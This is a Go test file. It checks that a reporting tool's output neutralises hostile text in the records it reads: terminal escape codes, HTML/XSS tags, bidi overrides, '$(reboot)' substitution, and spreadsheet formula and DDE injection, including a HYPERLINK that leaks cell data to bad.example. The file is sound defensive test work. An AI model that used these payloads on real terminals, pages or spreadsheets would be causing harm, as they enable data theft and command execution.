package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
	page "golang.org/x/net/html"

	"driploop/reports"
)

const hostileRecord = "../../testdata/records/hostile/texts.yaml"

// refused are records that cannot be used, whose texts stand in the message or
// beside it.
var refused = map[string]string{
	"escape":  "driploop: 1\njob: {number: \"\x1b]0;owned\x07\x1b[2J\"}\nvessel: {system: 12 V}\n",
	"quoted":  "driploop: 1\njob: {number: \"\\e[31mred\\a\"}\nvessel: {system: 12 V}\n",
	"rules":   "driploop: 1\njob: {number: X}\nvessel: {system: 12 V}\nwaivers:\n  - {rule: \"<u>=1+1</u>\", at: \"x\\u202E[y](https://bad.example) @all\"}\n",
	"key":     "driploop: 1\njob: {number: X, \"<script>alert(1)</script>\\u202E\": 1}\nvessel: {system: 12 V}\n",
	"invalid": "driploop: 1\njob: {number: \"\xff\xfe\x9b31m\"}\n",
}

// hostileFolder holds the hostile record and those that are refused, one with a
// hostile name.
func hostileFolder(t *testing.T) string {
	t.Helper()
	folder := t.TempDir()
	text, err := os.ReadFile(hostileRecord)
	require.NoError(t, err)
	put := func(name string, text []byte) {
		require.NoError(t, os.WriteFile(filepath.Join(folder, name), text, 0o644))
	}
	put("texts.yaml", text)
	for name, text := range refused {
		put(name+".yaml", []byte(text))
	}
	put("\x1b[2J<img src=x onerror=alert(1)>`|`@all=1+1\u202e.yaml", text)
	return folder
}

// said is what a command prints, on both of its outputs.
func said(t *testing.T, args ...string) (out, errs []byte) {
	t.Helper()
	var o, e bytes.Buffer
	code := run(args, strings.NewReader(""), &o, &e)
	require.NotEqual(t, exitFault, code, e.String())
	return o.Bytes(), e.Bytes()
}

func assertGraphic(t *testing.T, text []byte, of string) {
	t.Helper()
	for _, r := range string(text) {
		if r != '\n' && !unicode.IsGraphic(r) {
			t.Errorf("%s: %U is printed", of, r)
			return
		}
	}
}

func TestHostileTextsDriveNoTerminal(t *testing.T) {
	folder := hostileFolder(t)
	commands := [][]string{
		{"figures", hostileRecord},
		{"figures", "--working", hostileRecord},
		{"facts", hostileRecord},
		{"figures", filepath.Join(folder, "escape.yaml")},
		{"figures", filepath.Join(folder, "quoted.yaml")},
		{"check", "--format", "\x1b[31m", folder},
		{"check", "\x1b[31m.yaml"},
	}
	for _, format := range reports.FormatNames() {
		commands = append(commands, []string{"check", "--all", "--format", format, folder})
	}
	for _, table := range reports.Tables() {
		commands = append(commands, []string{"figures", "--format", "csv", "--table", table, hostileRecord})
	}
	for _, command := range commands {
		out, errs := said(t, command...)
		assertGraphic(t, out, strings.Join(command, " "))
		assertGraphic(t, errs, strings.Join(command, " "))
	}
}

// What is hostile is printed as it is written, not swallowed.
func TestHostileTextsArePrintedAsTheyAreWritten(t *testing.T) {
	out, _ := said(t, "check", "--all", hostileRecord)
	text := strings.Join(strings.Fields(string(out)), " ")
	for _, written := range []string{
		`=HYPERLINK("https://bad.example/?"&A1,"HL-666")`,
		"<script>alert('job')</script><!-- ]]> --> {0} {{.}} ${HOME} $(reboot) %s%n",
		`Mari\u202egold\u202c\u200b \u2066x\u2069`,
		"<b onmouseover=alert(1)>short run</b> &lt;ok&gt; `code` *bold*",
		"ポンプ-עוגן-é",
	} {
		assert.Contains(t, text, written)
	}
}

// ourTags are those that a summary has for itself.
var ourTags = regexp.MustCompile(`^(h2|h3|table|thead|tbody|tr|th|td|p|ul|li|strong|code|details|summary|sub|input)$`)

func TestHostileTextsMakeNoTagOrLinkOfMarkdown(t *testing.T) {
	out, _ := said(t, "check", "--all", "--format", "md", hostileFolder(t))
	var rendered bytes.Buffer
	reader := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	require.NoError(t, reader.Convert(out, &rendered))
	tokens := page.NewTokenizer(&rendered)
	depth, words := 0, strings.Builder{}
	for {
		kind := tokens.Next()
		if kind == page.ErrorToken {
			break
		}
		token := tokens.Token()
		switch kind {
		case page.TextToken:
			if depth == 0 {
				words.WriteString(token.Data)
			}
		case page.CommentToken, page.DoctypeToken:
			t.Errorf("a comment: %s", token)
		default:
			assert.Regexp(t, ourTags, token.Data)
			for _, a := range token.Attr {
				assert.Contains(t, []string{"style", "checked", "disabled", "type"}, a.Key, token.String())
			}
			if token.Data == "code" {
				depth += map[page.TokenType]int{page.StartTagToken: 1, page.EndTagToken: -1}[kind]
			}
		}
	}
	assert.NotRegexp(t, `@|://|www\.|[#!]\w|<script`, words.String(), "outside of code")
}

func TestHostileTextsAreNoFormulas(t *testing.T) {
	for _, table := range reports.Tables() {
		out, _ := said(t, "figures", "--format", "csv", "--table", table, hostileRecord)
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					assert.NotRegexp(t, `^\s*[=+\-@]`, cell)
				}
			}
		}
	}
	out, _ := said(t, "figures", "--format", "xlsx", hostileRecord)
	book, err := excelize.OpenReader(bytes.NewReader(out))
	require.NoError(t, err)
	defer book.Close()
	held := ""
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		require.NoError(t, err)
		for y, row := range rows {
			for x, value := range row {
				at, err := excelize.CoordinatesToCellName(x+1, y+1)
				require.NoError(t, err)
				formula, err := book.GetCellFormula(sheet, at)
				require.NoError(t, err)
				assert.Empty(t, formula)
				linked, _, err := book.GetCellHyperLink(sheet, at)
				require.NoError(t, err)
				assert.False(t, linked)
				held += value + "\n"
			}
		}
	}
	assertGraphic(t, []byte(held), "xlsx")
	assert.Contains(t, held, `=HYPERLINK("https://bad.example/?"&A1,"HL-666")`)
	assert.Contains(t, held, "-2+3+cmd|' /C calc'!A0")
}

func TestHostileTextsKeepTheFormOfXMLAndJSON(t *testing.T) {
	folder := hostileFolder(t)
	out, _ := said(t, "check", "--all", "--format", "junit", folder)
	for decoder := xml.NewDecoder(bytes.NewReader(out)); ; {
		token, err := decoder.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		require.NoError(t, err)
		if start, ok := token.(xml.StartElement); ok {
			assert.Regexp(t, `^(testsuites|testsuite|properties|property|testcase|failure|error|skipped|system-out)$`, start.Name.Local)
		}
	}
	for _, format := range []string{"json", "sarif"} {
		out, _ := said(t, "check", "--all", "--format", format, folder)
		var tree any
		require.NoError(t, json.Unmarshal(out, &tree))
	}
	assert.Contains(t, string(out), "&lt;script&gt;alert(&#39;job&#39;)&lt;/script&gt;")
}
